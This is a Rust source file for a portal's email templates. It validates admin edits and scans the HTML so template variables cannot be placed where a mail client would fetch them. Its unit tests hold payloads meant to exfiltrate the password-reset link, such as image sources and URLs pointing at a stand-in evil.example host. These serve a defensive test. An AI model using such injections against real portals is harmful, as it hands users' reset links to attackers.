//! Email templates as Settings > Email > Templates shows and edits them, and their validation.

use crate::error::{AppError, FieldMessage};
use serde::{Deserialize, Serialize};

const PERSON: [&str; 4] = [
    "user.first_name",
    "user.last_name",
    "user.email",
    "portal_name",
];

/// Every template: its kind, its name for people, and the variables it may use besides the
/// person's names, email and the portal name.
pub const TEMPLATES: [(&str, &str, &[&str]); 19] = [
    ("invitation", "Invitation", &["invite_url", "expires_at"]),
    (
        "email_confirmation",
        "Confirm your email address",
        &["confirm_url", "expires_at"],
    ),
    (
        "invitation_requested",
        "New invitation requested (to admins)",
        &["user_url"],
    ),
    ("welcome", "Welcome", &["login_url"]),
    ("registration_received", "Registration received", &[]),
    (
        "registration_existing",
        "Registration with a taken email",
        &["reset_url"],
    ),
    (
        "registration_pending",
        "Registration pending (to admins)",
        &["approvals_url"],
    ),
    (
        "registration_approved",
        "Registration approved",
        &["login_url"],
    ),
    (
        "registration_rejected",
        "Registration declined",
        &["login_url"],
    ),
    (
        "password_reset",
        "Password reset",
        &["reset_url", "expires_at"],
    ),
    ("password_changed", "Password changed", &["reset_url"]),
    ("account_activated", "Account activated", &["login_url"]),
    ("account_deactivated", "Account deactivated", &[]),
    (
        "organization_requested",
        "Organization requested (to admins)",
        &["organization.name", "organizations_url"],
    ),
    (
        "organization_approved",
        "Organization approved",
        &["organization.name", "dashboard_url"],
    ),
    (
        "organization_rejected",
        "Organization rejected",
        &["organization.name", "reason"],
    ),
    (
        "access_requested",
        "Access requested (to admins)",
        &[
            "app.name",
            "product.name",
            "plan.name",
            "comment",
            "requests_url",
        ],
    ),
    (
        "access_approved",
        "Access approved",
        &["app.name", "product.name", "plan.name", "app_url"],
    ),
    (
        "access_rejected",
        "Access rejected",
        &["app.name", "product.name", "plan.name", "reason"],
    ),
];

/// The name and variables of a template kind.
pub fn template_info(kind: &str) -> Option<(&'static str, Vec<&'static str>)> {
    TEMPLATES
        .iter()
        .find(|(k, ..)| *k == kind)
        .map(|(_, name, extra)| {
            let mut vars = PERSON.to_vec();
            vars.extend_from_slice(extra);
            (*name, vars)
        })
}

/// A template as it is used: the admin's edited version if there is one, else the default.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MailTemplate {
    pub kind: String,
    pub subject: String,
    pub text: String,
    pub html: String,
    /// Whether an admin edited it.
    pub edited: bool,
}

/// One line of the templates list.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TemplateSummary {
    pub kind: String,
    pub name: String,
    pub edited: bool,
}

/// A template being edited, with a preview rendered from sample values.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TemplateView {
    pub kind: String,
    pub name: String,
    pub variables: Vec<String>,
    pub subject: String,
    pub text_body: String,
    pub html_body: String,
    pub edited: bool,
    pub preview_subject: String,
    pub preview_text: String,
    pub preview_html: String,
}

pub const MAX_SUBJECT_CHARS: usize = 200;
pub const MAX_BODY_CHARS: usize = 20_000;

/// Checks an edited template: a one-line subject, bodies within bounds, and only `{{ name }}`s
/// the template knows (a misspelt variable would otherwise vanish from every email).
pub fn validate(
    variables: &[&str],
    subject: &str,
    text_body: &str,
    html_body: &str,
) -> Result<(), AppError> {
    let mut errors = Vec::new();
    let mut note = |field: &str, message: String| {
        errors.push(FieldMessage {
            field: field.to_owned(),
            message,
        })
    };
    let subject_trimmed = subject.trim();
    if subject_trimmed.is_empty() {
        note("subject", "Enter a subject.".to_owned());
    } else if subject_trimmed.chars().count() > MAX_SUBJECT_CHARS {
        note("subject", "Use at most 200 characters.".to_owned());
    } else if subject_trimmed.contains(['\r', '\n']) {
        note("subject", "Keep the subject on one line.".to_owned());
    }
    for (field, body) in [("text_body", text_body), ("html_body", html_body)] {
        if body.trim().is_empty() {
            note(field, "This field is required.".to_owned());
        } else if body.chars().count() > MAX_BODY_CHARS {
            note(field, "Use at most 20,000 characters.".to_owned());
        } else if field == "html_body" && misplaced_variable(body) {
            note(field, MISPLACED_VARIABLE.to_owned());
        }
    }
    for (field, text) in [
        ("subject", subject),
        ("text_body", text_body),
        ("html_body", html_body),
    ] {
        if let Some(unknown) = unknown_variable(variables, text) {
            note(
                field,
                format!(
                    "Unknown variable {{{{ {unknown} }}}}. Use: {}.",
                    variables.join(", ")
                ),
            );
        }
    }
    if errors.is_empty() {
        Ok(())
    } else {
        Err(AppError::Validation {
            errors,
            values: vec![
                ("subject".into(), subject.to_owned()),
                ("text_body".into(), text_body.to_owned()),
                ("html_body".into(), html_body.to_owned()),
            ],
        })
    }
}

/// Why an HTML body with a variable in the wrong place is refused.
pub const MISPLACED_VARIABLE: &str = "Inside a tag a variable may only be a whole link address, \
     as in <a href=\"{{ reset_url }}\">. Variables may not be part of another address, an image, \
     a style, a script or a comment: the mail client would send a live link to that server.";

/// Where the HTML scanner is: in text, in a tag (and which part of it), or in text that is not
/// markup (comments, `<style>`, `<script>`).
#[derive(Clone, Copy, PartialEq, Eq)]
enum Html {
    Text,
    TagName,
    InTag,
    AttrName,
    AfterAttrName,
    BeforeValue,
    Quoted(u8),
    Unquoted,
    Comment,
    Raw,
}

/// Whether an HTML template puts a `{{ variable }}` anywhere but in text or as the whole value
/// of a quoted `href` of `<a>`: a variable in an image, style or other address would hand the
/// link it carries (a reset link) to whatever server that address names, so only super admins
/// edit templates and even they cannot do that. The scan follows the HTML tokenizer's states
/// closely enough for templates, and refuses whatever it does not follow (comments, raw text).
pub fn misplaced_variable(html: &str) -> bool {
    let bytes = html.as_bytes();
    let lower = html.to_ascii_lowercase();
    let mut state = Html::Text;
    let mut tag = String::new();
    let mut attr = String::new();
    let mut raw_end: &str = "";
    let mut value_start = 0;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if lower[i..].starts_with("{{") {
            let whole_href = |end: usize| {
                let value = html[value_start..end].trim();
                (tag == "a" || tag == "area")
                    && attr == "href"
                    && value.starts_with("{{")
                    && value.ends_with("}}")
                    && value[2..].find("{{").is_none()
            };
            let ok = match state {
                Html::Text => true,
                Html::Quoted(q) => {
                    let end = html[i..].find(q as char).map_or(html.len(), |e| i + e);
                    whole_href(end)
                }
                _ => false,
            };
            if !ok {
                return true;
            }
        }
        match state {
            Html::Text => {
                if lower[i..].starts_with("<!--") {
                    state = Html::Comment;
                    i += 4;
                    continue;
                }
                if b == b'<' {
                    let next = bytes.get(i + 1).copied().unwrap_or(b' ');
                    if next.is_ascii_alphabetic() || (next == b'/') || next == b'!' || next == b'?'
                    {
                        tag.clear();
                        state = Html::TagName;
                        i += if next == b'/' { 2 } else { 1 };
                        continue;
                    }
                }
            }
            Html::TagName => {
                if b.is_ascii_whitespace() || b == b'/' {
                    state = Html::InTag;
                } else if b == b'>' {
                    state = after_tag(&tag, &mut raw_end);
                } else {
                    tag.push(b.to_ascii_lowercase() as char);
                }
            }
            Html::InTag | Html::AfterAttrName => {
                if b == b'>' {
                    state = after_tag(&tag, &mut raw_end);
                } else if b == b'=' && state == Html::AfterAttrName {
                    state = Html::BeforeValue;
                } else if !b.is_ascii_whitespace() && b != b'/' {
                    attr.clear();
                    attr.push(b.to_ascii_lowercase() as char);
                    state = Html::AttrName;
                }
            }
            Html::AttrName => {
                if b == b'=' {
                    state = Html::BeforeValue;
                } else if b == b'>' {
                    state = after_tag(&tag, &mut raw_end);
                } else if b.is_ascii_whitespace() || b == b'/' {
                    state = Html::AfterAttrName;
                } else {
                    attr.push(b.to_ascii_lowercase() as char);
                }
            }
            Html::BeforeValue => {
                if b == b'"' || b == b'\'' {
                    state = Html::Quoted(b);
                    value_start = i + 1;
                } else if b == b'>' {
                    state = after_tag(&tag, &mut raw_end);
                } else if !b.is_ascii_whitespace() {
                    state = Html::Unquoted;
                    value_start = i;
                }
            }
            Html::Quoted(q) => {
                if b == q {
                    state = Html::InTag;
                }
            }
            Html::Unquoted => {
                if b.is_ascii_whitespace() {
                    state = Html::InTag;
                } else if b == b'>' {
                    state = after_tag(&tag, &mut raw_end);
                }
            }
            Html::Comment => {
                if lower[i..].starts_with("-->") {
                    state = Html::Text;
                    i += 3;
                    continue;
                }
            }
            Html::Raw => {
                if lower[i..].starts_with(raw_end) {
                    state = Html::Text;
                    continue;
                }
            }
        }
        // Step over a whole character so slicing stays on character boundaries.
        i += html[i..].chars().next().map_or(1, char::len_utf8);
    }
    false
}

/// The state after a tag closes: raw text inside `<style>`, `<script>` and their kin (where a
/// variable is never allowed), else text.
fn after_tag(tag: &str, raw_end: &mut &'static str) -> Html {
    *raw_end = match tag {
        "style" => "</style",
        "script" => "</script",
        "textarea" => "</textarea",
        "title" => "</title",
        "xmp" => "</xmp",
        "noscript" => "</noscript",
        "iframe" => "</iframe",
        "noembed" => "</noembed",
        "noframes" => "</noframes",
        _ => return Html::Text,
    };
    Html::Raw
}

fn unknown_variable(variables: &[&str], text: &str) -> Option<String> {
    let mut rest = text;
    while let Some(start) = rest.find("{{") {
        let end = rest[start..].find("}}")?;
        let name = rest[start + 2..start + end].trim();
        if !variables.contains(&name) {
            return Some(name.to_owned());
        }
        rest = &rest[start + end + 2..];
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_kind_knows_the_person_and_its_own_variables() {
        let (name, vars) = template_info("password_reset").expect("known");
        assert_eq!(name, "Password reset");
        assert!(vars.contains(&"user.first_name") && vars.contains(&"reset_url"));
        assert!(template_info("nope").is_none());
    }

    #[test]
    fn a_misspelt_variable_a_long_subject_and_an_empty_body_are_refused() {
        let (_, vars) = template_info("welcome").expect("known");
        assert!(
            validate(
                &vars,
                "Hi {{ user.first_name }}",
                "Go {{login_url}}",
                "<p>x</p>"
            )
            .is_ok()
        );
        let err = validate(&vars, "Hi {{ user.firstname }}", "", "<p>x</p>").expect_err("bad");
        assert!(
            err.field_message("subject")
                .expect("subject")
                .contains("user.firstname")
        );
        assert!(err.field_message("text_body").is_some());
        let long = "x".repeat(201);
        assert!(
            validate(&vars, &long, "a", "b")
                .expect_err("long")
                .field_message("subject")
                .is_some()
        );
        assert!(validate(&vars, "a\nb", "a", "b").is_err());
    }

    #[test]
    fn a_variable_may_be_a_whole_link_address_or_text_and_nothing_else() {
        for ok in [
            "<p>Hello {{ user.first_name }}</p><p><a href=\"{{ reset_url }}\">Reset</a></p>",
            "<a class=x href='{{ reset_url }}' title=\"Reset\">go</a>",
            "<p>1 > 0 and {{ portal_name }}</p>",
            "<img src=\"https://cdn.example/logo.png\" alt=\"logo\">{{ user.email }}",
        ] {
            assert!(!misplaced_variable(ok), "{ok}");
        }
        for bad in [
            "<img src=\"https://evil.example/{{ reset_url }}\">",
            "<img src=\"{{ reset_url }}\">",
            "<img alt=\">\" src=\"https://evil.example/?{{ reset_url }}\">",
            "<img src=https://evil.example/?{{reset_url}}>",
            "<a href=\"https://evil.example/?u={{ reset_url }}\">x</a>",
            "<a href=\"{{ reset_url }}{{ user.email }}\">x</a>",
            "<link rel=stylesheet href=\"{{ reset_url }}\">",
            "<div style=\"background:url({{ reset_url }})\"></div>",
            "<style>body { background: url({{ reset_url }}) }</style>",
            "<!-- <img src=\"{{ reset_url }}\"> -->",
            "<table background=\"{{ reset_url }}\"></table>",
            "<a title=\"{{ user.first_name }}\" href=\"https://x\">x</a>",
            "<img {{ reset_url }}>",
        ] {
            assert!(misplaced_variable(bad), "{bad}");
        }
        let (_, vars) = template_info("password_reset").expect("known");
        let err = validate(
            &vars,
            "s",
            "t",
            "<img src=\"https://evil.example/{{ reset_url }}\">",
        )
        .expect_err("refused");
        assert_eq!(
            err.field_message("html_body").as_deref(),
            Some(MISPLACED_VARIABLE)
        );
    }

    use proptest::prelude::*;

    proptest! {
        #[test]
        fn the_html_scan_never_panics(html in ".{0,200}") {
            let _ = misplaced_variable(&html);
        }

        #[test]
        fn a_variable_in_any_image_address_is_refused(
            before in "[a-z:/.?=]{0,20}",
            quote in prop_oneof![Just("\""), Just("'"), Just("")],
            attr in prop_oneof![Just("src"), Just("srcset"), Just("background"), Just("style"), Just("poster")],
        ) {
            let html = format!("<p>Hi</p><img {attr}={quote}{before}{{{{ reset_url }}}}{quote}>");
            prop_assert!(misplaced_variable(&html), "{}", html);
        }
    }
}
